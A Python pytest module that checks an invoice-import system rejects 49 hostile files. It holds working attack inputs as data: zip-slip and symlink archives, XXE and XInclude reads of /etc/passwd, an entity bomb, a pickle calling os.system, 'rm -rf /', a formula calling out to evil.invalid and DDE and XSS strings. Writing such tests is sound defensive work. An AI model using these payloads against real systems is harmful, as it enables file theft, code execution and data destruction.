"""Files that are made to do harm: each is a sentence or refused rows, and nothing else happens.

The larger ones, which unfold to much, are in ``sheets/test_bombs.py``.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from so24.errors import UnreadableFile
from so24.installation import Installation
from so24.people.desk import Desk
from so24.people.roles import Actor
from so24.sources.intake import import_files
from so24.store.documents.overview import InvoiceFilter, list_invoices
from tests.sources.ehf.bills import Sample, pack
from tests.sources.hostile import with_entities
from tests.sources.report_files import as_csv, as_grid, as_report, line
from tests.sources.sheets.packages import packed, unpacked

BILL, REPORT = Sample().xml, as_report(line())
SHEET = "xl/worksheets/sheet1.xml"
CSV = as_csv(as_grid([line()]), ";", "utf-8")


def of_sheet(old: bytes, new: bytes) -> bytes:
    """The report with something replaced in its sheet."""
    parts = unpacked(REPORT)
    assert old in parts[SHEET]
    return packed({**parts, SHEET: parts[SHEET].replace(old, new)})


def of_bill(old: str, new: str) -> bytes:
    """The bill with something replaced."""
    assert old in BILL
    return BILL.replace(old, new, 1).encode()


def with_dtd(declared: str, use: str = "") -> bytes:
    """The bill with a document type, and something of it used."""
    head, _, rest = BILL.partition("?>")
    return f"{head}?><!DOCTYPE a [{declared}]>{rest.replace('Takk', use or 'Takk')}".encode()


def nested_archive() -> bytes:
    return pack(("a.zip", pack(("b.zip", pack(("c.xml", BILL.encode()))))))


def tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../../evil"), io.BytesIO(b""))
    return buffer.getvalue()


def with_link() -> bytes:
    """An archive of a symbolic link to the password file."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        entry = zipfile.ZipInfo("a.xml")
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def lying_size() -> bytes:
    """An archive whose list says that a member unfolds to four bytes."""
    content = bytearray(pack(("a.xml", BILL.encode() * 50)))
    place = content.index(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 4)
    return bytes(content)


FORMULA = b'<c r="D2" t="n"><f>WEBSERVICE("http://evil.invalid/")</f><v>412.5</v></c>'
NUMBER = b'<c r="D2" t="n"><v>412.5</v></c>'
FILES: Mapping[str, Callable[[], bytes]] = {
    "nothing": lambda: b"",
    "one byte": lambda: b"\0",
    "zeros": lambda: bytes(100_000),
    "a program": lambda: b"\x7fELF" + bytes(500),
    "a program of Windows": lambda: b"MZ" + bytes(500),
    "a script": lambda: b"#!/bin/sh\nrm -rf /\n",
    "a PDF": lambda: b"%PDF-1.7\n",
    "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(500),
    "a page": lambda: b"<html><script>alert(1)</script></html>",
    "an old workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1000),
    "JSON": lambda: b'{"a": ' * 50_000,
    "a serialized object": lambda: b"\x80\x04cos\nsystem\n(S'id'\ntR.",
    "a tar": tar,
    "a packed file": lambda: gzip.compress(CSV),
    "names that lead out": lambda: pack(("../../evil.xml", b"x"), ("/etc/evil.xml", b"x")),
    "names of Windows that lead out": lambda: pack(("..\\..\\evil.xml", b"x"), ("C:\\e.xml", b"x")),
    "a link": with_link,
    "an archive in an archive in an archive": nested_archive,
    "a size that is a lie": lying_size,
    "no members": lambda: pack(),
    "half an archive": lambda: pack(("a.xml", BILL.encode()))[:-60],
    "an archive's end alone": lambda: b"PK\x05\x06" + bytes(18),
    "half a workbook": lambda: REPORT[: len(REPORT) // 2],
    "a workbook of noise": lambda: packed({**unpacked(REPORT), SHEET: bytes(range(256)) * 50}),
    "a workbook with entities": with_entities,
    "a formula that calls out": lambda: of_sheet(NUMBER, FORMULA),
    "a formula of old": lambda: of_sheet(NUMBER, b'<c r="D2" t="str"><v>=cmd|x!A1</v></c>'),
    "a cell far away": lambda: of_sheet(b'r="D2"', b'r="XFE2"'),
    "a row far away": lambda: of_sheet(b'<row r="2"', b'<row r="99999999"'),
    "a text that is not there": lambda: of_sheet(NUMBER, b'<c r="D2" t="s"><v>999999</v></c>'),
    "a number without end": lambda: of_sheet(b"412.5", b"4" * 300_000),
    "a number beyond all": lambda: of_sheet(b"412.5", b"1e400"),
    "no number": lambda: of_sheet(b"412.5", b"NaN"),
    "levels without end": lambda: of_sheet(NUMBER, b"<a>" * 100_000),
    "an entity that is a file": lambda: with_dtd(
        '<!ENTITY f SYSTEM "file:///etc/passwd">', "&f;"
    ),
    "an entity that is elsewhere": lambda: with_dtd(
        '<!ENTITY f SYSTEM "http://127.0.0.1:9/x">', "&f;"
    ),
    "a document type that is elsewhere": lambda: with_dtd("").replace(
        b"<!DOCTYPE a []>", b'<!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd">'
    ),
    "entities by the billion": lambda: with_dtd(
        "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10)), "&e9;"
    ),
    "an inclusion": lambda: of_bill(
        "<cbc:Note>", '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'
        "<cbc:Note>",
    ),
    "a stylesheet": lambda: of_bill("?>", '?><?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>'),
    "a bill in another coding than it says": lambda: BILL.encode("utf-16"),
    "a bill without end": lambda: BILL.encode()[:-20],
    "a bill of attributes": lambda: of_bill("<cbc:Note>", "<cbc:Note" + ' a="b"' * 5000 + ">"),
    "a bill of a hundred thousand notes": lambda: of_bill(
        "<cbc:Note>", "<cbc:Note>x</cbc:Note>" * 100_000 + "<cbc:Note>"
    ),
    "an amount of sixty digits": lambda: of_bill(">412.50<", f">{'9' * 60}<"),
    "rows of NULs": lambda: CSV.replace(b"412.50", b"4\x0012.50"),
    "one line without end": lambda: CSV.replace(b"1001;", b"1001;" * 200_000),
    "a quotation without end": lambda: CSV.replace(b"412.50", b'"412.50'),
    "a quantity of sixty digits": lambda: CSV.replace(b"7.5", b"9" * 60),
}  # fmt: skip
# what tells more than is needed, and is the same document
HARMLESS = {"a stylesheet"}


@pytest.mark.parametrize("name", FILES)
def test_a_hostile_file_lands_nothing_and_writes_nothing(
    installation: Installation, finance: Actor, tmp_path: Path, name: str
) -> None:
    desk = Desk(installation, finance)
    try:
        reports = import_files(
            desk, [("../../evil\x1b[31m.xlsx", FILES[name]())], department="10",
            new_department=True,
        )  # fmt: skip
        told = [row.reason for report in reports for row in report.refused]
        assert told or name in HARMLESS
    except UnreadableFile as error:
        told = [str(error)]
    assert all(len(each) < 1_000 and "Traceback" not in each for each in told)
    assert not any("root:" in each for each in told)
    with installation.db.reading() as session:
        landed = list_invoices(session, InvoiceFilter())
    assert len(landed) == (name in HARMLESS)
    assert not list(tmp_path.rglob("*evil*"))
    assert not list(Path.cwd().glob("*evil*"))


def test_so_many_are_tried() -> None:
    """The figure of the security page."""
    assert len(FILES) == 49
